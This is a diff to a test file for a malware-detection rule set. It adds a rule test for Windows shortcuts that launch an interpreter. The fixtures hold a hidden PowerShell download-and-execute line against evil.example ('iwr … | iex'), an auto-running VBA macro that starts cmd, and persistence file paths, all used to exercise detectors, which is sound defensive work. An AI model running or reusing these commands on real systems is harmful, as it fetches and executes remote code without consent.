@@ -16,7 +16,9 @@ function clean(): Report {
     static: { pe_sections: [{ name: '.text', entropy: 6.1, size_of_data: '0x0000a000' }, { name: '.tiny', entropy: 7.9, size_of_data: '0x00000200' }],
       // A macro the user runs (a button): it starts a program, but nothing runs it on open.
       office: { format: 'ole', vba: ['Macros'], external_targets: [], macros: [{ stream: 'Macros/VBA/Module1', filename: 'Module1.bas',
-        orig_code: 'Sub OpenCalculator()\r\n  Shell "calc.exe", 1\r\nEnd Sub\r\nSub Document_Opened_Log()\r\nEnd Sub\r\n', deobf: '' }] } },
+        orig_code: 'Sub OpenCalculator()\r\n  Shell "calc.exe", 1\r\nEnd Sub\r\nSub Document_Opened_Log()\r\nEnd Sub\r\n', deobf: '' }] },
+      // A shortcut to a document viewer, with arguments: what a user's own shortcuts look like.
+      lnk: { flags: {}, attrs: [], basepath: 'C:\\Program Files\\Viewer\\viewer.exe', cmdline: '"C:\\Users\\a\\report.pdf"' } },
     strings: ['hello world', 'GetProcAddress'],
     behavior: {
       // The package started the script with the shell: that shell is not the sample starting one.
@@ -68,6 +70,10 @@ const FIRES: Record<string, (r: Report & { behavior: Report; network: Report }) 
   persistence_cron: (r) => { ((r.behavior.summary as Report).file_created as string[]).push('/var/spool/cron/crontabs/root') },
   persistence_systemd: (r) => { ((r.behavior.summary as Report).file_written as string[]).push('/etc/systemd/system/dbus-update.service') },
   persistence_shell_rc: (r) => { ((r.behavior.summary as Report).file_written as string[]).push('/home/user/.bashrc') },
+  lnk_starts_interpreter: (r) => {
+    Object.assign(((r.static as Report).lnk as Report), { basepath: '', environment_target: '%windir%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe',
+      cmdline: '-w hidden -c "iwr http://evil.example/a | iex"', show_window: 'minimized' })
+  },
   office_macro_autoexec: (r) => {
     ;(((r.static as Report).office as Report).macros as Report[]).push({ stream: 'Macros/VBA/ThisDocument', filename: 'ThisDocument.cls',
       orig_code: 'Private Sub Document_Open()\r\n  Shell Chr(99) & "md /c calc", 0\r\nEnd Sub\r\n', deobf: 'Private Sub Document_Open()\r\n  Shell "cmd /c calc", 0\r\nEnd Sub\r\n' })
@@ -145,6 +151,16 @@ describe('ATT&CK ids', () => {
 })
 
 describe('rule details', () => {
+  it('lnk_starts_interpreter: marks the target with its arguments; a shortcut to cmd without a base path is read from its relative path', () => {
+    const r = clean() as Report & { behavior: Report; network: Report }
+    FIRES.lnk_starts_interpreter!(r)
+    expect(fired(r, 'lnk_starts_interpreter')!.marks).toEqual([{ type: 'ioc', category: 'lnk',
+      ioc: '%windir%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -w hidden -c "iwr http://evil.example/a | iex"', description: 'starts minimized' }])
+    const rel = clean()
+    ;((rel.static as Report).lnk as Report) = { relapath: '..\\..\\Windows\\System32\\cmd.exe' }
+    expect(fired(rel, 'lnk_starts_interpreter')?.marks[0]).toMatchObject({ ioc: '..\\..\\Windows\\System32\\cmd.exe' })
+  })
+
   it('office_macro_autoexec: names the module, the procedure and what it starts; a commented-out AutoOpen is not one', () => {
     const r = clean() as Report & { behavior: Report; network: Report }
     FIRES.office_macro_autoexec!(r)
